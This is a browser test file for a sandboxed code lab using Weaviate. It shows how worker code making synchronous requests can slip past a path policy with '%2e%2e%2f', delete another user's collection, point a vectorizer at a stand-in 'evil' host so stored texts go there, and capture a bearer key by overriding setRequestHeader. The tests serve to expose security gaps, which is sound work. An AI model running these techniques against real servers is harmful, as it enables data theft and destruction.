import type { Page } from 'puppeteer-core';
import { frameDocument } from '../../src/live/frame/document.ts';
import { secondServer } from '../facts/second-server.ts';
import { openEvil } from '../live/evil.ts';
import { openFront, reply } from '../live/front.ts';
import { addObject, count } from '../live/server.ts';
import { emptyServer } from '../snippets/run/schema.ts';
import { expect, test } from './fixture.ts';

// What synchronous requests from the worker would cost where a browser cannot pause Python: the frame is the very one
// that blocks run in, but for a policy that lets its worker connect to the server.

/** A request that waits for its answer, as a transport for Python would make it. */
const ask = `(method, address, body, key) => {
  const request = new XMLHttpRequest();
  request.open(method, address, false);
  if (key) request.setRequestHeader('authorization', 'Bearer ' + key);
  if (body) request.setRequestHeader('content-type', 'application/json');
  request.send(body && JSON.stringify(body));
  return request.status;
}`;

/** Runs code in the worker of a frame whose policy allows connections to one address; what it gave, or its failure. */
async function run(firefox: Page, site: string, address: string, code: string): Promise<unknown> {
  await firefox.goto(`${site}/start`);
  const document = frameDocument('lab').replace('worker-src', `connect-src ${address}; worker-src`);
  const worker = `addEventListener('message', async ({ ports: [port] }) => {
    const ask = ${ask};
    try { port.postMessage(await (async () => { ${code} })()); } catch ({ name }) { port.postMessage(name); }
  }, { once: true });`;
  return firefox.evaluate(openLab, document, worker);
}

function openLab(source: string, worker: string): Promise<unknown> {
  const frame = document.createElement('iframe');
  const { port1, port2 } = new MessageChannel();
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.srcdoc = source;
  return new Promise((resolve) => {
    port1.onmessage = ({ data }) => resolve(data);
    frame.onload = () => frame.contentWindow?.postMessage(worker, '*', [port2]);
    document.body.append(frame);
  });
}

test.beforeEach(async ({ stack }) => {
  await emptyServer(stack);
  await addObject(stack.rest, 'Foreign', { text: 'not yours' });
});

test.afterEach(({ stack }) => emptyServer(stack));

test('synchronous requests go to the paths and the server that the policy names, and nowhere else', async ({
  window: firefox,
  site,
  stack,
}) => {
  const evil = await openEvil();
  const heard: string[] = [];
  const front = await openFront(stack.rest, ({ url = '' }, response) => {
    heard.push(url);
    return reply(response, 200, '{}');
  });
  const tried = (address: string) =>
    run(firefox, site, `${front.origin}/v1/`, `return ask('GET', '${address}');`);
  expect(await tried(`${front.origin}/v1/meta`)).toBe(200);
  expect(await tried(`${front.origin}/metrics`)).toBe('NetworkError');
  expect(await tried(`${evil.origin}/v1/meta`)).toBe('NetworkError');
  expect(heard).toEqual(['/v1/meta']);
  expect(evil.heard).toEqual([]);
  // A way up that only the server sees is no other path for a policy; the page refuses it.
  expect(await tried(`${front.origin}/v1/%2e%2e%2fmetrics`)).toBe(200);
  await front.close();
  await evil.close();
});

test('code with synchronous requests deletes a foreign collection, and nobody is asked', async ({
  window: firefox,
  site,
  stack,
}) => {
  const code = `return ask('DELETE', '${stack.rest}/v1/schema/Foreign');`;
  expect(await run(firefox, site, `${stack.rest}/v1/`, code)).toBe(200);
  expect(await count(stack.rest, 'Foreign')).toBeUndefined();
});

test('code with synchronous requests has Weaviate send texts elsewhere, and nobody is asked', async ({
  window: firefox,
  site,
}) => {
  const evil = await openEvil();
  // A process of this machine reaches another one, whatever the run's stack is made of.
  const server = await secondServer({
    ENABLE_MODULES: 'text2vec-model2vec',
    MODEL2VEC_INFERENCE_API: evil.origin,
  });
  await server.ready();
  const moduleConfig = { 'text2vec-model2vec': { inferenceUrl: evil.origin } };
  const collection = { class: 'Mine', vectorizer: 'text2vec-model2vec', moduleConfig };
  const object = { class: 'Mine', properties: { text: 'not yours' } };
  const code = `ask('POST', '${server.rest}/v1/schema', ${JSON.stringify(collection)});
    return ask('POST', '${server.rest}/v1/objects', ${JSON.stringify(object)});`;
  await run(firefox, site, `${server.rest}/v1/`, code);
  expect(evil.heard).toContain('POST /vectors');
  await server.stop();
  await evil.close();
});

test('code with synchronous requests goes on after its block has ended', async ({
  window: firefox,
  site,
  stack,
}) => {
  const code = `setTimeout(() => ask('DELETE', '${stack.rest}/v1/schema/Foreign'), 500); return 'ended';`;
  expect(await run(firefox, site, `${stack.rest}/v1/`, code)).toBe('ended');
  expect(await count(stack.rest, 'Foreign')).toBe(1);
  await expect.poll(() => count(stack.rest, 'Foreign')).toBeUndefined();
});

test('code beside synchronous requests reads the key that they carry', async ({
  window: firefox,
  site,
  stack,
}) => {
  const code = `const connect = (key) => () => ask('GET', '${stack.rest}/v1/meta', undefined, key);
    const meta = connect('the-secret-key');
    const seen = [];
    XMLHttpRequest.prototype.setRequestHeader = (name, value) => seen.push(value);
    meta();
    return seen.join();`;
  expect(await run(firefox, site, `${stack.rest}/v1/`, code)).toBe('Bearer the-secret-key');
});
